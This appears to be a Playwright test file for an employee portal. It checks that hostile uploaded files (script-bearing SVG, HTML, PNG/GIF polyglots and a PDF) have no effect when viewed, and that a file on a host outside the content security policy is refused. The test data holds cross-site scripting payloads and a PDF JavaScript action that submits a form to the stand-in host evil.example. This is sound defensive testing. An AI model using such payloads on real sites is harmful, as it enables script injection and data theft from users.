import { HOSTILE_NAMES, PNG } from '../../test/kit/files/hostile-files.ts';
import { expect, test } from '../fixtures/test.ts';
import { dialog, openList, row } from '../pages/lists.ts';

test.use({ account: 'rosa' });

const SCRIPT =
  '<script>window.parent.harmed=true;window.harmed=true;localStorage.setItem("harmed","1")</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.harmed=true">${SCRIPT}</svg>`;
const HTML = `<!doctype html><body onload="window.harmed=true">${SCRIPT}<img src=x onerror="window.harmed=true">`;
const PDF_WITH_SCRIPT =
  '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("http://evil.example"\\))>>/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>';

const CONTENTS = [SVG, HTML, `${PNG}${HTML}`, `GIF89a${HTML}`, PDF_WITH_SCRIPT] as const;

/**
 * Files that would harm the portal if they ran as pages: each name with two contents, each content with at least three
 * names, and all whose extension matches their content. A unit test covers the displayed type of every combination.
 */
const FILES = HOSTILE_NAMES.flatMap((name, nameIndex) =>
  CONTENTS.flatMap((content, index) => {
    const isShown =
      (name.endsWith('.png') && content.startsWith(PNG)) ||
      (name === 'page.pdf' && content === PDF_WITH_SCRIPT);
    const isDrawn = [nameIndex % 5, (nameIndex + 2) % 5].includes(index);
    return isShown || isDrawn
      ? [{ address: `/files/9${nameIndex}${index}/${nameIndex}${index}-${name}`, content }]
      : [];
  }),
);

test('FILE-04 FILE-11 FILE-12 hostile files have no effect under any name', async ({ page, world }) => {
  await world.respond('listEmployees', [
    {
      id: 1,
      first_name: 'Ana',
      last_name: 'Ruiz',
      email: 'a@example.com',
      phone_number: '1',
      SP_number: 'SP-1',
      files: FILES.map(({ address }) => address),
    },
  ]);
  for (const { address, content } of FILES) {
    await page.route(`**${address}`, (route) =>
      route.fulfill({ body: Buffer.from(content, 'latin1'), contentType: 'text/html' }),
    );
  }
  page.on('dialog', () => expect(false, 'a file opened a dialog').toBe(true));
  await openList(page, 'employees');
  const buttons = row(page, 'Ana Ruiz').getByRole('button');
  await expect(buttons).toHaveCount(FILES.length);
  for (let index = 0; index < FILES.length; index += 1) {
    await buttons.nth(index).click();
    // A page under the name of another type is not offered at all.
    const shown = dialog(page)
      .locator('img, iframe, p:text("Unsupported file type")')
      .or(dialog(page).getByText(/The service sent a page instead of the file|This picture cannot be shown/));
    await expect(shown.first()).toBeVisible();
    const addresses = await dialog(page)
      .locator('img, iframe')
      .evaluateAll((elements) => elements.map((one) => one.getAttribute('src')));
    for (const address of addresses) expect(address).toMatch(/^blob:/);
    await dialog(page).getByRole('button', { name: 'Close' }).click();
  }
  const harmed = await page.evaluate(() => 'harmed' in window || localStorage.getItem('harmed') !== null);
  expect(harmed).toBe(false);
  expect(page.context().pages()).toHaveLength(1);
});

test('FILE-14 a file on a host outside the content security policy has its own message, without another try', async ({
  page,
  world,
  troubles,
}) => {
  troubles.expect(
    /policy violation: connect-src/,
    /violates the following Content Security Policy directive/,
    /Fetch API cannot load/,
  );
  await world.respond('listEmployees', [
    {
      id: 1,
      first_name: 'Ana',
      last_name: 'Ruiz',
      email: 'a@example.com',
      phone_number: '1',
      SP_number: 'SP-1',
      files: ['https://files.example.org/1/id.png'],
    },
  ]);
  await openList(page, 'employees');
  await row(page, 'Ana Ruiz').getByRole('button').first().click();
  await expect(dialog(page).getByRole('alert')).toContainText(
    'The portal may not open the address of this file.',
  );
  await expect(dialog(page).getByRole('button', { name: 'Try again' })).toHaveCount(0);
});
